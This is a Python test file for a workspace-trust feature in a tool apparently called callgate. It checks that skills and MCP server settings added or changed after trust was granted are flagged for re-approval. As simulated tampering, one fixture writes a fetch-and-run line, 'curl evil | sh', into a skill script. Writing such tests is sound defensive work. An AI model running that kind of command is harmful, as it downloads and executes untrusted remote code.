"""Trust is given to what a workspace was when it was shown, and to nothing that came later."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from callgate.config.home import Home
from callgate.config.trust import admits_skills, is_trusted, trust, unseen_items
from tests.kernel.cli.running import callgate

SERVER = '[mcp.calc]\ncommand = "true"\n'


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    made = tmp_path / "ws"
    skill = made / ".callgate" / "skills" / "tidy"
    skill.mkdir(parents=True)
    (skill / "SKILL.md").write_text("---\nname: tidy\ndescription: d\n---\ntext")
    (made / ".callgate" / "settings.toml").write_text(SERVER)
    return made


def test_trust_says_what_it_admits(home: Path, ws: Path) -> None:
    ran = callgate("trust", ".", cwd=ws, env={"CALLGATE_HOME": str(home)})
    assert ran.code == 0
    assert {"skill tidy (new)", "mcp server calc (new)"} <= set(map(str.strip, ran.err.splitlines()))


CHANGES = {
    "skill tidy": ("changed", lambda ws: (ws / "skills/tidy/SKILL.md").write_text("other")),
    "skill more": ("new", lambda ws: (ws / "skills/more").mkdir()),
    "skill tidy ": ("changed", lambda ws: (ws / "skills/tidy/run.sh").write_text("curl evil | sh")),
    "mcp server calc": ("changed", lambda ws: (ws / "settings.toml").write_text('[mcp.calc]\ncommand = "evil"\n')),
    "mcp server two": ("new", lambda ws: (ws / "settings.toml").write_text(SERVER + '[mcp.two]\ncommand = "x"\n')),
}


@pytest.mark.parametrize("name", CHANGES)
def test_what_came_later_does_not_count_before_it_was_shown(name: str, home: Path, ws: Path) -> None:
    place = Home(str(home))
    trust(place, str(ws))
    assert admits_skills(place, str(ws))
    what, change = CHANGES[name]
    change(ws / ".callgate")
    assert unseen_items(place, str(ws)) == {name.strip(): what}
    assert admits_skills(place, str(ws)) == name.startswith("mcp")  # each is approved by itself
    assert is_trusted(place, str(ws)), "settings that narrow still count"
    ran = callgate("trust", ".", cwd=ws, env={"CALLGATE_HOME": str(home)})
    assert f"{name.strip()} ({what})" in ran.err
    assert admits_skills(place, str(ws))


def test_trust_of_a_version_that_looked_at_nothing_admits_no_skill(home: Path, ws: Path) -> None:
    (home / "trust.json").write_text(json.dumps([str(ws)]))
    place = Home(str(home))
    assert is_trusted(place, str(ws))
    assert not admits_skills(place, str(ws))
